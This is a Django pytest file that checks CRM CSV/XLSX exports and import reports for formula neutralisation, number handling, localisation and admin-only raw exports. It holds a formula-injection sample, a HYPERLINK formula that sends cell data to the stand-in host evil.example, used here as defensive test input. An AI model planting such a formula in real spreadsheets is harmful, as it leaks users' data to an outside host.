"""Every export path neutralises formulas and speaks the marketer's language (issue 9).

The paths: the admin's django-import-export export (CSV streamed, XLSX), the member list's
export written by a worker, and the import report downloaded from the imports page.
"""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from crm.models import ExportJob, ImportJob
from crm.resources import MemberResource, OrderResource
from crm.services.exports import export_job_run
from crm.services.import_jobs import import_job_check
from tests.factories import MemberFactory, OrderFactory

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HTMX = {"HTTP_HX_REQUEST": "true"}


@pytest.fixture(autouse=True)
def _media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def admin_form(resource, *, file_format: str = "0", **extra) -> dict:
    prefix = resource.__name__.lower()
    data = {"format": file_format, "resource": "0", **extra}
    for name in resource().get_export_order():
        data[f"{prefix}_{name}"] = "on"
    return data


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def evil_member():
    member = MemberFactory(member_no="M0000666", name=EVIL, gender="female")
    OrderFactory(
        member=member, amount_twd=-1280, placed_at=datetime(2025, 3, 12, 6, 5, 33, tzinfo=UTC)
    )
    return member


def test_admin_csv_export_neutralises_formulas_and_keeps_numbers(login_as, evil_member):
    client = login_as("alice")

    members = csv_rows(
        b"".join(
            client.post("/admin/crm/member/export/", admin_form(MemberResource)).streaming_content
        )
    )
    orders = csv_rows(
        b"".join(
            client.post("/admin/crm/order/export/", admin_form(OrderResource)).streaming_content
        )
    )

    assert members[1][1] == "'" + EVIL
    assert orders[1][4] == "-1280"  # a number, not "'-1280"


def test_admin_xlsx_export_neutralises_formulas_and_keeps_numbers(login_as, evil_member):
    client = login_as("alice")

    members = client.post("/admin/crm/member/export/", admin_form(MemberResource, file_format="1"))
    orders = client.post("/admin/crm/order/export/", admin_form(OrderResource, file_format="1"))

    _header, member = load_workbook(io.BytesIO(b"".join(members.streaming_content))).active.values
    _header, order = load_workbook(io.BytesIO(b"".join(orders.streaming_content))).active.values
    assert member[1] == "'" + EVIL
    assert -1280 in order


def test_admin_export_is_in_chinese_with_taipei_times(login_as, evil_member):
    rows = csv_rows(
        b"".join(
            login_as("alice")
            .post("/admin/crm/order/export/", admin_form(OrderResource))
            .streaming_content
        )
    )

    header, row = rows
    assert header[:2] == ["通路", "訂單編號"]
    assert "channel" not in header and "placed_at" not in header
    assert "2025-03-12 14:05:33+08:00" in row


def test_admins_may_ask_the_admin_for_raw_codes_and_utc(login_as, evil_member):
    rows = csv_rows(
        b"".join(
            login_as("alice")
            .post("/admin/crm/order/export/", admin_form(OrderResource, raw="on"))
            .streaming_content
        )
    )

    header, row = rows
    assert header[:2] == ["channel", "external_no"]
    assert "2025-03-12T06:05:33+00:00" in row


def test_raw_is_not_offered_nor_honoured_for_an_analyst(client, carol, evil_member):
    carol.is_staff = True
    carol.save(update_fields=["is_staff"])
    client.force_login(carol)

    page = client.get("/admin/crm/member/export/")
    rows = csv_rows(
        b"".join(
            client.post(
                "/admin/crm/member/export/", admin_form(MemberResource, raw="on")
            ).streaming_content
        )
    )

    assert "raw" not in page.context["form"].fields
    assert rows[0][0] == "會員編號"


def _member_list_job(client, **data) -> ExportJob:
    client.post("/members/export/", {"file_format": "csv", **data}, **HTMX)
    job = ExportJob.objects.get()
    export_job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == "done", job.error
    return job


def test_member_list_export_is_in_the_askers_language_with_labels(login_as, evil_member):
    job = _member_list_job(login_as("bob"))

    header, row = csv_rows(job.file.read())
    assert job.language == "zh-hant" and not job.raw
    assert row[header.index("性別")] == "女性"  # the label, not "female"
    assert row[header.index("姓名")] == "'" + EVIL  # neutralised on this path too
    assert row[header.index("累計消費（NT$）")] == "0"  # a number, as is


def test_member_list_export_carries_english_into_the_worker(login_as, evil_member):
    client = login_as("bob")
    client.post("/members/export/", {"file_format": "csv"}, HTTP_ACCEPT_LANGUAGE="en", **HTMX)
    job = ExportJob.objects.get()
    export_job_run(job_id=job.pk)  # in the test's language (zh-hant): the job's wins

    job.refresh_from_db()
    header, row = csv_rows(job.file.read())
    assert job.language == "en"
    assert row[header.index("gender")] == "Female"


def test_member_list_raw_export_is_for_admins_only(login_as, evil_member):
    marketer = _member_list_job(login_as("bob"), raw="1")
    ExportJob.objects.all().delete()
    admin = _member_list_job(login_as("alice"), raw="1")

    assert not marketer.raw
    header, row = csv_rows(admin.file.read())
    assert admin.raw and header[:4] == ["member_no", "name", "birthday", "gender"]
    assert row[3] == "female"


def test_import_report_neutralises_the_values_it_quotes(bob):
    header = (
        "會員編號,姓名,手機,Email,生日,性別,LINE UID,會員卡號,載具號碼,加入日期,加入管道,"
        "簡訊同意,Email同意,LINE同意\n"
    )
    line = "M000999,王小明,0912345678,,=1+2,男,,,,2023/05/01,store,Y,N,Y\n"
    upload = SimpleUploadedFile("members.csv", (header + line).encode(), content_type="text/csv")
    job = ImportJob.objects.create(
        file=upload, original_name="members.csv", preset="members", created_by=bob
    )

    import_job_check(job_id=job.pk)

    job.refresh_from_db()
    report = csv_rows(job.report.read())
    assert any("'=1+2" in row for row in report[1:]), report
    assert not any("=1+2" in row for row in report[1:])
